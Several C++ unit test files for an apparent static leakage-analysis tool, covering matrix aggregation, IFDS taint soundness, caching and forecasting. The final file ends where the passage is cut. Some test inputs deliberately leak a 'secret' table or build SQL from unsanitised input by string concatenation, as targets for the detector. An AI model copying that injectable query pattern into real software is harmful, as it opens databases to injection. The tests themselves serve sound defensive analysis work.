