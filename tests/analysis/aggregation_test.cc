#include "analysis/aggregation.h"

#include <gtest/gtest.h>

#include "analysis/forecast.h"
#include "core/analyzer.h"
#include "prog/program.h"

namespace adprom::analysis {
namespace {

util::Result<Ctm> ProgramCtmOf(const std::string& source,
                               core::AnalyzerOptions options = {}) {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  core::Analyzer analyzer(std::move(options));
  auto analysis = analyzer.Analyze(*program);
  if (!analysis.ok()) return analysis.status();
  return std::move(analysis->program_ctm);
}

/// Analyzer options pinning the uniform static forecast: tests with
/// hand-computed 0.5/0.5 branch expectations use constant guards that the
/// abstract-interpretation refinement would (correctly) prune.
core::AnalyzerOptions NoAbsint() {
  core::AnalyzerOptions options;
  options.absint_refinement = false;
  return options;
}

TEST(AggregationTest, StraightLineInline) {
  // main: print -> g() -> print; g: print. Inlined: p1 -> gp -> p2.
  auto pctm = ProgramCtmOf(R"(
fn main() {
  print("p1");
  g();
  print("p2");
}
fn g() { print("gp"); }
)");
  ASSERT_TRUE(pctm.ok()) << pctm.status().ToString();
  ASSERT_EQ(pctm->num_sites(), 3u);
  // Identify sites by owning function and order.
  int p1 = -1;
  int p2 = -1;
  int gp = -1;
  for (size_t i = 0; i < pctm->num_sites(); ++i) {
    if (pctm->site(i).function == "g") {
      gp = static_cast<int>(i);
    } else if (p1 < 0) {
      p1 = static_cast<int>(i);
    } else {
      p2 = static_cast<int>(i);
    }
  }
  ASSERT_GE(gp, 0);
  EXPECT_DOUBLE_EQ(pctm->entry_to(p1), 1.0);
  EXPECT_DOUBLE_EQ(pctm->between(p1, gp), 1.0);
  EXPECT_DOUBLE_EQ(pctm->between(gp, p2), 1.0);
  EXPECT_DOUBLE_EQ(pctm->to_exit(p2), 1.0);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
}

TEST(AggregationTest, CallFreeCalleeBridges) {
  // The paper's case 4: g makes no calls, so print->print bridges with
  // weight 1 after eliminating the g() site.
  auto pctm = ProgramCtmOf(R"(
fn main() {
  print("a");
  g();
  print("b");
}
fn g() { var x = 1; }
)");
  ASSERT_TRUE(pctm.ok());
  ASSERT_EQ(pctm->num_sites(), 2u);
  EXPECT_DOUBLE_EQ(pctm->between(0, 1), 1.0);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
}

TEST(AggregationTest, CalleeCalledFromTwoSitesSumsWeights) {
  auto pctm = ProgramCtmOf(R"(
fn main() {
  g();
  g();
}
fn g() { print("x"); }
)");
  ASSERT_TRUE(pctm.ok());
  // One deduplicated g-print site; entry 1.0, self pair 1.0, exit 1.0.
  ASSERT_EQ(pctm->num_sites(), 1u);
  EXPECT_DOUBLE_EQ(pctm->entry_to(0), 1.0);
  EXPECT_DOUBLE_EQ(pctm->between(0, 0), 1.0);
  EXPECT_DOUBLE_EQ(pctm->to_exit(0), 1.0);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
}

TEST(AggregationTest, ConditionalCallee) {
  auto pctm = ProgramCtmOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { g(); }
  print("end");
}
fn g() { print("inner"); }
)",
                           NoAbsint());
  ASSERT_TRUE(pctm.ok());
  ASSERT_EQ(pctm->num_sites(), 2u);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
  // inner reached with prob 0.5; end always reached.
  int inner = pctm->site(0).function == "g" ? 0 : 1;
  int end = 1 - inner;
  EXPECT_DOUBLE_EQ(pctm->entry_to(inner), 0.5);
  EXPECT_DOUBLE_EQ(pctm->entry_to(end), 0.5);
  EXPECT_DOUBLE_EQ(pctm->between(inner, end), 0.5);
  EXPECT_DOUBLE_EQ(pctm->to_exit(end), 1.0);
}

TEST(AggregationTest, TwoLevelNesting) {
  auto pctm = ProgramCtmOf(R"(
fn main() { a(); }
fn a() { b(); }
fn b() { print("deep"); }
)");
  ASSERT_TRUE(pctm.ok());
  ASSERT_EQ(pctm->num_sites(), 1u);
  EXPECT_EQ(pctm->site(0).function, "b");
  EXPECT_DOUBLE_EQ(pctm->entry_to(0), 1.0);
  EXPECT_DOUBLE_EQ(pctm->to_exit(0), 1.0);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
}

TEST(AggregationTest, RecursionTreatedAsPassthrough) {
  auto pctm = ProgramCtmOf(R"(
fn main() { rec(3); print("done"); }
fn rec(n) {
  print(n);
  if (n > 0) { rec(n - 1); }
  return n;
}
)");
  ASSERT_TRUE(pctm.ok()) << pctm.status().ToString();
  EXPECT_TRUE(pctm->CheckInvariants().ok())
      << pctm->CheckInvariants().ToString();
}

TEST(AggregationTest, DiamondCallGraph) {
  auto pctm = ProgramCtmOf(R"(
fn main() { left(); right(); }
fn left() { shared(); }
fn right() { shared(); }
fn shared() { print("s"); }
)");
  ASSERT_TRUE(pctm.ok());
  // shared's print site appears once (deduplicated by site key), with
  // summed weights from both paths.
  ASSERT_EQ(pctm->num_sites(), 1u);
  EXPECT_DOUBLE_EQ(pctm->entry_to(0), 1.0);
  EXPECT_DOUBLE_EQ(pctm->between(0, 0), 1.0);
  EXPECT_TRUE(pctm->CheckInvariants().ok());
}

TEST(AggregationTest, LabeledSitesSurviveInlining) {
  auto pctm = ProgramCtmOf(R"(
fn main() {
  var r = db_query("SELECT * FROM secret");
  leak(r);
}
fn leak(data) { print(data); }
)");
  ASSERT_TRUE(pctm.ok());
  bool found_labeled = false;
  for (size_t i = 0; i < pctm->num_sites(); ++i) {
    if (pctm->site(i).labeled) {
      found_labeled = true;
      EXPECT_EQ(pctm->site(i).function, "leak");
      ASSERT_FALSE(pctm->site(i).source_tables.empty());
      EXPECT_EQ(pctm->site(i).source_tables[0], "secret");
    }
  }
  EXPECT_TRUE(found_labeled);
}

/// The memoized path must return the *identical* matrix, not a close one:
/// compare every cell with exact equality.
void ExpectCtmIdentical(const Ctm& a, const Ctm& b) {
  ASSERT_EQ(a.num_sites(), b.num_sites());
  EXPECT_EQ(a.entry_to_exit(), b.entry_to_exit());
  for (size_t i = 0; i < a.num_sites(); ++i) {
    EXPECT_EQ(a.site(i).Key(), b.site(i).Key());
    EXPECT_EQ(a.entry_to(i), b.entry_to(i));
    EXPECT_EQ(a.to_exit(i), b.to_exit(i));
    for (size_t j = 0; j < a.num_sites(); ++j) {
      EXPECT_EQ(a.between(i, j), b.between(i, j));
    }
  }
}

constexpr const char* kCachedProgram = R"(
fn main() {
  print("m");
  g();
  h();
}
fn g() { print("g"); leaf(); }
fn h() { print("h"); }
fn leaf() { scan(); }
)";

TEST(AggregationCacheTest, SecondRunOnSameAnalyzerHitsEveryFunction) {
  auto program = prog::ParseProgram(kCachedProgram);
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  core::Analyzer analyzer;
  auto first = analyzer.Analyze(*program);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_EQ(first->aggregation_stats.functions, 4u);
  EXPECT_EQ(first->aggregation_stats.cache_hits, 0u);
  EXPECT_EQ(first->aggregation_stats.cache_misses, 4u);

  auto second = analyzer.Analyze(*program);
  ASSERT_TRUE(second.ok()) << second.status().ToString();
  EXPECT_EQ(second->aggregation_stats.functions, 4u);
  EXPECT_EQ(second->aggregation_stats.cache_hits, 4u);
  EXPECT_EQ(second->aggregation_stats.cache_misses, 0u);
  ExpectCtmIdentical(second->program_ctm, first->program_ctm);

  // A fresh analyzer (cold memo) produces the same pCTM as the warm path.
  core::Analyzer cold;
  auto reference = cold.Analyze(*program);
  ASSERT_TRUE(reference.ok());
  ExpectCtmIdentical(second->program_ctm, reference->program_ctm);
}

TEST(AggregationCacheTest, EditingOneFunctionMissesOnlyItsCallers) {
  auto before = prog::ParseProgram(kCachedProgram);
  ASSERT_TRUE(before.ok()) << before.status().ToString();
  // Same program with `leaf` edited: leaf's own CTM changes, so leaf,
  // g (calls leaf) and main (calls g) must recompute — but h, whose
  // transitive callee set is untouched, must hit.
  auto after = prog::ParseProgram(R"(
fn main() {
  print("m");
  g();
  h();
}
fn g() { print("g"); leaf(); }
fn h() { print("h"); }
fn leaf() { scan(); scan(); }
)");
  ASSERT_TRUE(after.ok()) << after.status().ToString();

  core::Analyzer analyzer;
  ASSERT_TRUE(analyzer.Analyze(*before).ok());
  auto rerun = analyzer.Analyze(*after);
  ASSERT_TRUE(rerun.ok()) << rerun.status().ToString();
  EXPECT_EQ(rerun->aggregation_stats.functions, 4u);
  EXPECT_EQ(rerun->aggregation_stats.cache_hits, 1u);   // h
  EXPECT_EQ(rerun->aggregation_stats.cache_misses, 3u);  // leaf, g, main

  core::Analyzer cold;
  auto reference = cold.Analyze(*after);
  ASSERT_TRUE(reference.ok());
  ExpectCtmIdentical(rerun->program_ctm, reference->program_ctm);
}

TEST(AggregationCacheTest, RecursiveProgramsCacheDeterministically) {
  // Recursion exercises the kRecursionMarker path of the combined key:
  // the cycle member's key must still be stable across runs.
  auto program = prog::ParseProgram(R"(
fn main() { walk(); }
fn walk() { print("w"); walk(); }
)");
  ASSERT_TRUE(program.ok()) << program.status().ToString();
  core::Analyzer analyzer;
  auto first = analyzer.Analyze(*program);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  auto second = analyzer.Analyze(*program);
  ASSERT_TRUE(second.ok());
  EXPECT_EQ(second->aggregation_stats.cache_hits,
            second->aggregation_stats.functions);
  EXPECT_EQ(second->aggregation_stats.cache_misses, 0u);
  ExpectCtmIdentical(second->program_ctm, first->program_ctm);
}

// Property sweep: pCTM invariants hold across program shapes with calls,
// branches, loops and multiple user functions.
class AggregationInvariantTest
    : public ::testing::TestWithParam<const char*> {};

TEST_P(AggregationInvariantTest, PctmInvariantsHold) {
  auto pctm = ProgramCtmOf(GetParam());
  ASSERT_TRUE(pctm.ok()) << pctm.status().ToString();
  EXPECT_TRUE(pctm->CheckInvariants().ok())
      << pctm->CheckInvariants().ToString() << "\n"
      << pctm->ToString();
}

INSTANTIATE_TEST_SUITE_P(
    ProgramShapes, AggregationInvariantTest,
    ::testing::Values(
        R"(fn main() { helper(); }
fn helper() { print("x"); })",
        R"(fn main() {
  var x = 1;
  if (x > 0) { a(); } else { b(); }
}
fn a() { print("a"); scan(); }
fn b() { var y = 2; })",
        R"(fn main() {
  var i = 0;
  while (i < 4) { work(i); i = i + 1; }
}
fn work(n) {
  if (n % 2 == 0) { print(n); }
  return n;
})",
        R"(fn main() {
  var r = db_query("SELECT * FROM t");
  var i = 0;
  while (i < db_ntuples(r)) {
    dump(r, i);
    i = i + 1;
  }
}
fn dump(res, row) {
  print(db_getvalue(res, row, 0));
})",
        R"(fn main() { a(); }
fn a() { b(); print("after-b"); b(); }
fn b() { c(); c(); }
fn c() { print("leaf"); })"));

}  // namespace
}  // namespace adprom::analysis
