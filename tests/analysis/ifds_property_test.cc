// Corpus-wide properties of the leakage-witness engine:
//   * soundness — the feasibility-filtered IFDS facts are a subset of the
//     flow-sensitive taint facts, and exactly equal with the filter off
//     (labeled ⊎ pruned always reconstructs the unfiltered set);
//   * realizability — every witness step list walks real CFG edges of
//     its function (structural join nodes may be skipped);
//   * determinism — results are bit-identical for any thread-pool size.

#include <gtest/gtest.h>

#include <deque>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "analysis/dataflow/flow_graph.h"
#include "analysis/dataflow/ifds.h"
#include "analysis/dataflow/taint_flow.h"
#include "apps/corpus.h"
#include "prog/program.h"
#include "util/thread_pool.h"

namespace adprom::analysis::dataflow {
namespace {

std::vector<prog::Program> CorpusPrograms() {
  std::vector<prog::Program> out;
  for (const apps::CorpusApp& app : apps::MakeFullCorpus()) {
    auto program = prog::ParseProgram(app.source);
    EXPECT_TRUE(program.ok()) << app.name << ": "
                              << program.status().ToString();
    out.push_back(std::move(*program));
  }
  return out;
}

/// Flattens a result into a comparable fingerprint (witness rendering
/// included, so path choice differences show up too).
std::string Fingerprint(const IfdsResult& r) {
  std::string out;
  for (const auto& [sink, sources] : r.taint.labeled_sinks) {
    out += "L" + std::to_string(sink) + ":";
    for (int s : sources) out += std::to_string(s) + ",";
  }
  for (const auto& [sink, sources] : r.pruned_sinks) {
    out += "P" + std::to_string(sink) + ":";
    for (int s : sources) out += std::to_string(s) + ",";
  }
  for (const auto& [site, cols] : r.source_columns) {
    out += "C" + std::to_string(site) + ":";
    for (const std::string& c : cols) out += c + ",";
  }
  for (const auto& [fn, vars] : r.taint.tainted_vars) {
    out += "V" + fn + ":";
    for (const auto& [var, tokens] : vars) {
      out += var + "{";
      for (int t : tokens) out += std::to_string(t) + ",";
      out += "}";
    }
  }
  for (const LeakWitness& w : r.witnesses) out += FormatWitness(w);
  out += "S" + std::to_string(r.stats.demanded_solves) + "/" +
         std::to_string(r.stats.sink_facts) + "/" +
         std::to_string(r.stats.pruned_facts) + "/" +
         std::to_string(r.stats.summary_edges);
  return out;
}

TEST(IfdsPropertyTest, FactsAreSubsetOfFlowSensitiveTaint) {
  for (const prog::Program& program : CorpusPrograms()) {
    auto flow = RunFlowSensitiveTaint(program, TaintConfig::Default());
    ASSERT_TRUE(flow.ok());
    auto ifds = RunIfdsTaint(program, {});
    ASSERT_TRUE(ifds.ok());
    // Filtered facts ⊆ flow-sensitive facts…
    for (const auto& [sink, sources] : ifds->taint.labeled_sinks) {
      auto it = flow->labeled_sinks.find(sink);
      ASSERT_NE(it, flow->labeled_sinks.end()) << "sink " << sink;
      for (int s : sources) {
        EXPECT_TRUE(it->second.count(s) > 0) << sink << "<-" << s;
      }
    }
    // …and labeled ⊎ pruned reconstructs them exactly.
    std::map<int, std::set<int>> unioned = ifds->taint.labeled_sinks;
    for (const auto& [sink, sources] : ifds->pruned_sinks) {
      unioned[sink].insert(sources.begin(), sources.end());
    }
    EXPECT_EQ(unioned, flow->labeled_sinks);
  }
}

TEST(IfdsPropertyTest, FilterOffEqualsFlowSensitiveTaint) {
  IfdsOptions options;
  options.feasibility_filter = false;
  for (const prog::Program& program : CorpusPrograms()) {
    auto flow = RunFlowSensitiveTaint(program, TaintConfig::Default());
    ASSERT_TRUE(flow.ok());
    auto ifds = RunIfdsTaint(program, options);
    ASSERT_TRUE(ifds.ok());
    EXPECT_EQ(ifds->taint.labeled_sinks, flow->labeled_sinks);
    EXPECT_TRUE(ifds->pruned_sinks.empty());
  }
}

TEST(IfdsPropertyTest, WitnessesWalkRealCfgEdges) {
  for (const prog::Program& program : CorpusPrograms()) {
    auto ifds = RunIfdsTaint(program, {});
    ASSERT_TRUE(ifds.ok());
    std::map<std::string, FlowGraph> graphs;
    for (const prog::FunctionDef& fn : program.functions()) {
      graphs.emplace(fn.name, FlowGraph::Build(fn));
    }
    for (const LeakWitness& w : ifds->witnesses) {
      ASSERT_FALSE(w.steps.empty());
      for (size_t i = 0; i + 1 < w.steps.size(); ++i) {
        const WitnessStep& a = w.steps[i];
        const WitnessStep& b = w.steps[i + 1];
        if (a.function != b.function) continue;  // call-site splice
        const FlowGraph& graph = graphs.at(a.function);
        ASSERT_GE(a.node_id, 0);
        ASSERT_LT(static_cast<size_t>(a.node_id), graph.size());
        // b must be reachable from a through structural (join) nodes
        // only — the rendered path skips those.
        std::deque<int> queue(graph.node(a.node_id).succs.begin(),
                              graph.node(a.node_id).succs.end());
        std::set<int> seen;
        bool connected = false;
        while (!queue.empty()) {
          const int n = queue.front();
          queue.pop_front();
          if (n == b.node_id) {
            connected = true;
            break;
          }
          if (!seen.insert(n).second) continue;
          if (graph.node(n).op != FlowOp::kJoin) continue;
          for (int m : graph.node(n).succs) queue.push_back(m);
        }
        EXPECT_TRUE(connected)
            << a.function << ": node " << a.node_id << " !-> " << b.node_id
            << "\n" << FormatWitness(w);
      }
    }
  }
}

TEST(IfdsPropertyTest, ResultsAreBitIdenticalForAnyPoolSize) {
  const std::vector<prog::Program> corpus = CorpusPrograms();
  std::vector<std::string> serial;
  serial.reserve(corpus.size());
  for (const prog::Program& program : corpus) {
    auto ifds = RunIfdsTaint(program, {});
    ASSERT_TRUE(ifds.ok());
    serial.push_back(Fingerprint(*ifds));
  }
  for (size_t workers : {1u, 2u, 4u}) {
    util::ThreadPool pool(workers);
    IfdsOptions options;
    options.pool = &pool;
    for (size_t i = 0; i < corpus.size(); ++i) {
      auto ifds = RunIfdsTaint(corpus[i], options);
      ASSERT_TRUE(ifds.ok());
      EXPECT_EQ(Fingerprint(*ifds), serial[i])
          << "program " << i << " with " << workers << " workers";
    }
  }
}

}  // namespace
}  // namespace adprom::analysis::dataflow
