// Unit tests for the incremental-analysis layer: per-function content
// hashing (the Merkle roots every cache key chains from), summary-store
// hit/miss/invalidated semantics, the exact CTM codec, and the
// fail-closed `--analysis-cache` disk image.

#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include "analysis/incremental.h"
#include "analysis/summary_cache.h"
#include "core/analyzer.h"
#include "db/schema.h"
#include "prog/program.h"

namespace adprom::analysis {
namespace {

prog::Program Parse(const std::string& source) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  return std::move(program).value();
}

// Two functions, one call edge, a tainted sink in the callee. Edited
// variants below keep the line layout identical so only the edited
// function's body hash moves.
const char kBaseSource[] = R"(
fn main() {
  var cmd = scan();
  if (!is_null(cmd)) {
    lookup(cmd);
  }
}

fn lookup(id) {
  var r = db_query("SELECT name FROM items WHERE id='" + id + "'");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0));
    i = i + 1;
  }
}
)";

TEST(ProgramHashesTest, StableAcrossReparses) {
  const prog::Program first = Parse(kBaseSource);
  const prog::Program second = Parse(kBaseSource);
  const ProgramHashes a = ProgramHashes::Compute(first);
  const ProgramHashes b = ProgramHashes::Compute(second);
  EXPECT_EQ(a.body, b.body);
  EXPECT_EQ(a.callees, b.callees);
  EXPECT_EQ(a.fn_index, b.fn_index);
  EXPECT_EQ(a.schema_hash, b.schema_hash);
}

TEST(ProgramHashesTest, LiteralEditTouchesOnlyThatFunction) {
  std::string edited = kBaseSource;
  const std::string from = "i = i + 1;";
  const size_t pos = edited.find(from);
  ASSERT_NE(pos, std::string::npos);
  edited.replace(pos, from.size(), "i = i + 2;");

  const prog::Program base = Parse(kBaseSource);
  const prog::Program mutated = Parse(edited);
  const ProgramHashes a = ProgramHashes::Compute(base);
  const ProgramHashes b = ProgramHashes::Compute(mutated);
  ASSERT_EQ(a.fn_index, b.fn_index);
  const size_t main_i = a.fn_index.at("main");
  const size_t lookup_i = a.fn_index.at("lookup");
  EXPECT_EQ(a.body[main_i], b.body[main_i]);
  EXPECT_NE(a.body[lookup_i], b.body[lookup_i]);
}

TEST(ProgramHashesTest, ParamRenameChangesTheFunctionHash) {
  std::string edited = kBaseSource;
  const std::string from = "fn lookup(id) {";
  const size_t pos = edited.find(from);
  ASSERT_NE(pos, std::string::npos);
  edited.replace(pos, from.size(), "fn lookup(iq) {");
  // The body uses `id` too; rename those uses to keep the program valid.
  for (size_t at = edited.find("+ id +"); at != std::string::npos;
       at = edited.find("+ id +", at + 1)) {
    edited.replace(at, 6, "+ iq +");
  }

  const ProgramHashes a = ProgramHashes::Compute(Parse(kBaseSource));
  const ProgramHashes b = ProgramHashes::Compute(Parse(edited));
  EXPECT_NE(a.body[a.fn_index.at("lookup")],
            b.body[b.fn_index.at("lookup")]);
}

TEST(ProgramHashesTest, CalleesCoverUserCallsOnly) {
  const ProgramHashes hashes = ProgramHashes::Compute(Parse(kBaseSource));
  const size_t main_i = hashes.fn_index.at("main");
  const size_t lookup_i = hashes.fn_index.at("lookup");
  // main calls lookup (scan/is_null are built-ins, not dependencies);
  // lookup calls nothing user-defined.
  EXPECT_EQ(hashes.callees[main_i], std::vector<size_t>{lookup_i});
  EXPECT_TRUE(hashes.callees[lookup_i].empty());
}

TEST(ProgramHashesTest, SchemaHashTracksCatalog) {
  const db::SchemaCatalog empty;
  EXPECT_EQ(HashSchemaCatalog(nullptr), HashSchemaCatalog(&empty));

  auto one = db::BuildSchemaCatalog({"CREATE TABLE items (id INT)"});
  auto two = db::BuildSchemaCatalog(
      {"CREATE TABLE items (id INT, name TEXT)"});
  ASSERT_TRUE(one.ok() && two.ok());
  EXPECT_NE(HashSchemaCatalog(&*one), HashSchemaCatalog(nullptr));
  EXPECT_NE(HashSchemaCatalog(&*one), HashSchemaCatalog(&*two));

  auto again = db::BuildSchemaCatalog({"CREATE TABLE items (id INT)"});
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(HashSchemaCatalog(&*one), HashSchemaCatalog(&*again));
}

TEST(SummaryStoreTest, HitMissInvalidatedSemantics) {
  SummaryStore store;
  PassCacheStats stats;
  std::string payload;

  // Never-seen function: a plain miss, not an invalidation.
  EXPECT_FALSE(store.Lookup(/*config_fp=*/1, "f", /*key=*/10, &payload,
                            &stats));
  EXPECT_EQ(stats.misses, 1u);
  EXPECT_EQ(stats.invalidated, 0u);

  store.Store(1, "f", 10, "payload-v1");
  EXPECT_TRUE(store.Lookup(1, "f", 10, &payload, &stats));
  EXPECT_EQ(payload, "payload-v1");
  EXPECT_EQ(stats.hits, 1u);

  // Same function under a different key: the dependency changed.
  EXPECT_FALSE(store.Lookup(1, "f", 11, &payload, &stats));
  EXPECT_EQ(stats.misses, 2u);
  EXPECT_EQ(stats.invalidated, 1u);

  // A different config fingerprint is a separate shard: no entry there,
  // so this is a first-sight miss, not an invalidation.
  EXPECT_FALSE(store.Lookup(2, "f", 10, &payload, &stats));
  EXPECT_EQ(stats.misses, 3u);
  EXPECT_EQ(stats.invalidated, 1u);

  // Re-storing under the new key replaces the entry.
  store.Store(1, "f", 11, "payload-v2");
  EXPECT_EQ(store.size(), 1u);
  EXPECT_TRUE(store.Lookup(1, "f", 11, &payload, &stats));
  EXPECT_EQ(payload, "payload-v2");

  store.Count(&stats, 5, 2, 1);
  EXPECT_EQ(stats.hits, 7u);
  EXPECT_EQ(stats.misses, 5u);
  EXPECT_EQ(stats.invalidated, 2u);

  store.Clear();
  EXPECT_EQ(store.size(), 0u);
}

TEST(SummaryStoreTest, NullStatsAreAccepted) {
  SummaryStore store;
  std::string payload;
  EXPECT_FALSE(store.Lookup(1, "f", 10, &payload, nullptr));
  store.Store(1, "f", 10, "x");
  EXPECT_TRUE(store.Lookup(1, "f", 10, &payload, nullptr));
}

std::string CtmBytes(const Ctm& ctm) {
  BinaryWriter w;
  EncodeCtm(ctm, &w);
  return w.Take();
}

TEST(CtmCodecTest, RoundTripIsBitIdentical) {
  const prog::Program program = Parse(kBaseSource);
  auto result = core::Analyzer().Analyze(program);
  ASSERT_TRUE(result.ok()) << result.status().ToString();

  std::vector<Ctm> ctms;
  ctms.push_back(result->program_ctm);
  for (const auto& [fn, ctm] : result->function_ctms) ctms.push_back(ctm);
  ASSERT_GT(ctms.size(), 1u);

  for (const Ctm& ctm : ctms) {
    const std::string bytes = CtmBytes(ctm);
    BinaryReader r(bytes);
    const Ctm decoded = DecodeCtm(&r);
    ASSERT_TRUE(r.ok());
    EXPECT_TRUE(r.AtEnd());
    EXPECT_EQ(CtmBytes(decoded), bytes) << ctm.ToString(17);
    EXPECT_EQ(decoded.ToString(17), ctm.ToString(17));
  }
}

TEST(CtmCodecTest, TruncatedPayloadClearsReader) {
  const prog::Program program = Parse(kBaseSource);
  auto result = core::Analyzer().Analyze(program);
  ASSERT_TRUE(result.ok());
  std::string bytes = CtmBytes(result->program_ctm);
  ASSERT_GT(bytes.size(), 4u);
  bytes.resize(bytes.size() - 3);
  BinaryReader r(bytes);
  DecodeCtm(&r);
  EXPECT_FALSE(r.ok() && r.AtEnd());
}

// ---- Disk image -----------------------------------------------------------

class AnalysisCacheDiskTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = ::testing::TempDir() + "adprom_incremental_" +
           ::testing::UnitTest::GetInstance()->current_test_info()->name();
    std::filesystem::remove_all(dir_);
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }

  std::string CacheFile() const {
    return dir_ + "/" + kAnalysisCacheFile;
  }

  std::string ReadImage() const {
    std::ifstream in(CacheFile(), std::ios::binary);
    EXPECT_TRUE(in.good()) << CacheFile();
    std::ostringstream buf;
    buf << in.rdbuf();
    return buf.str();
  }

  void WriteImage(const std::string& bytes) const {
    std::ofstream out(CacheFile(), std::ios::binary);
    ASSERT_TRUE(out.good()) << CacheFile();
    out << bytes;
  }

  // Populates `cache` by analyzing the base program through it, then
  // saves the image to the test directory.
  void PrimeAndSave(AnalysisCache* cache) {
    core::AnalyzerOptions options;
    options.analysis_cache = cache;
    auto result = core::Analyzer(options).Analyze(Parse(kBaseSource));
    ASSERT_TRUE(result.ok()) << result.status().ToString();
    ASSERT_GT(cache->TotalEntries(), 0u);
    auto saved = SaveAnalysisCache(*cache, dir_);
    ASSERT_TRUE(saved.ok()) << saved.ToString();
  }

  std::string dir_;
};

TEST_F(AnalysisCacheDiskTest, RoundTripWarmRunHitsEverywhere) {
  AnalysisCache primed;
  PrimeAndSave(&primed);

  AnalysisCache loaded;
  auto status = LoadAnalysisCache(dir_, &loaded);
  ASSERT_TRUE(status.ok()) << status.ToString();
  EXPECT_EQ(loaded.TotalEntries(), primed.TotalEntries());

  // A fresh analyzer warm-started from the loaded image must hit on
  // every cached pass and reproduce the cold pCTM bit for bit.
  core::AnalyzerOptions cold_options;
  auto cold = core::Analyzer(cold_options).Analyze(Parse(kBaseSource));
  ASSERT_TRUE(cold.ok());

  core::AnalyzerOptions warm_options;
  warm_options.analysis_cache = &loaded;
  auto warm = core::Analyzer(warm_options).Analyze(Parse(kBaseSource));
  ASSERT_TRUE(warm.ok());

  EXPECT_GT(warm->cache_stats.taint.hits, 0u);
  EXPECT_EQ(warm->cache_stats.taint.misses, 0u);
  EXPECT_GT(warm->cache_stats.absint.hits, 0u);
  EXPECT_EQ(warm->cache_stats.absint.misses, 0u);
  EXPECT_GT(warm->cache_stats.forecast.hits, 0u);
  EXPECT_EQ(warm->cache_stats.forecast.misses, 0u);
  EXPECT_EQ(warm->aggregation_stats.cache_misses, 0u);
  EXPECT_EQ(CtmBytes(warm->program_ctm), CtmBytes(cold->program_ctm));
}

TEST_F(AnalysisCacheDiskTest, MissingFileIsACleanColdStart) {
  std::filesystem::create_directories(dir_);
  AnalysisCache cache;
  cache.taint.Store(1, "stale", 2, "x");
  auto status = LoadAnalysisCache(dir_, &cache);
  EXPECT_TRUE(status.ok()) << status.ToString();
  // Load replaces the contents even when there is no image yet.
  EXPECT_EQ(cache.TotalEntries(), 0u);
}

TEST_F(AnalysisCacheDiskTest, BadMagicFailsClosed) {
  AnalysisCache primed;
  PrimeAndSave(&primed);
  std::string image = ReadImage();
  image[0] = 'X';
  WriteImage(image);

  AnalysisCache cache;
  cache.taint.Store(1, "stale", 2, "x");
  auto status = LoadAnalysisCache(dir_, &cache);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.ToString().find("bad magic"), std::string::npos)
      << status.ToString();
  EXPECT_EQ(cache.TotalEntries(), 0u);
}

TEST_F(AnalysisCacheDiskTest, VersionMismatchFailsClosed) {
  AnalysisCache primed;
  PrimeAndSave(&primed);
  std::string image = ReadImage();
  // The version word sits right after the 8-byte magic.
  ASSERT_GT(image.size(), 8u);
  image[8] = static_cast<char>(image[8] + 1);
  WriteImage(image);

  AnalysisCache cache;
  auto status = LoadAnalysisCache(dir_, &cache);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.ToString().find("version"), std::string::npos)
      << status.ToString();
  EXPECT_EQ(cache.TotalEntries(), 0u);
}

TEST_F(AnalysisCacheDiskTest, TruncationFailsClosed) {
  AnalysisCache primed;
  PrimeAndSave(&primed);
  std::string image = ReadImage();
  ASSERT_GT(image.size(), 32u);
  image.resize(image.size() / 2);
  WriteImage(image);

  AnalysisCache cache;
  auto status = LoadAnalysisCache(dir_, &cache);
  EXPECT_FALSE(status.ok()) << status.ToString();
  EXPECT_EQ(cache.TotalEntries(), 0u);
}

TEST(AnalyzerIncrementalTest, DisabledMatchesEnabledBitForBit) {
  const prog::Program program = Parse(kBaseSource);

  core::AnalyzerOptions off;
  off.incremental = false;
  auto uncached = core::Analyzer(off).Analyze(program);
  ASSERT_TRUE(uncached.ok());
  EXPECT_EQ(uncached->cache_stats.taint.hits +
                uncached->cache_stats.taint.misses,
            0u);
  EXPECT_EQ(uncached->cache_stats.absint.hits +
                uncached->cache_stats.absint.misses,
            0u);
  EXPECT_EQ(uncached->cache_stats.forecast.hits +
                uncached->cache_stats.forecast.misses,
            0u);

  core::Analyzer cached_analyzer{core::AnalyzerOptions{}};
  auto first = cached_analyzer.Analyze(program);
  auto second = cached_analyzer.Analyze(program);
  ASSERT_TRUE(first.ok() && second.ok());
  EXPECT_GT(second->cache_stats.taint.hits, 0u);
  EXPECT_EQ(second->cache_stats.taint.misses, 0u);

  EXPECT_EQ(CtmBytes(first->program_ctm), CtmBytes(uncached->program_ctm));
  EXPECT_EQ(CtmBytes(second->program_ctm), CtmBytes(uncached->program_ctm));
}

}  // namespace
}  // namespace adprom::analysis
