#include "analysis/forecast.h"

#include <gtest/gtest.h>

#include "prog/program.h"

namespace adprom::analysis {
namespace {

util::Result<FunctionForecast> ForecastOf(const std::string& source,
                                          const std::string& fn = "main") {
  auto program = prog::ParseProgram(source);
  if (!program.ok()) return program.status();
  auto cfg = prog::BuildCfg(*program, *program->FindFunction(fn));
  if (!cfg.ok()) return cfg.status();
  return ComputeForecast(*cfg);
}

TEST(ForecastTest, StraightLineProbabilitiesAreOne) {
  auto fc = ForecastOf(R"(
fn main() {
  print("a");
  print("b");
}
)");
  ASSERT_TRUE(fc.ok()) << fc.status().ToString();
  const Ctm& ctm = fc->ctm;
  ASSERT_EQ(ctm.num_sites(), 2u);
  EXPECT_DOUBLE_EQ(ctm.entry_to(0), 1.0);
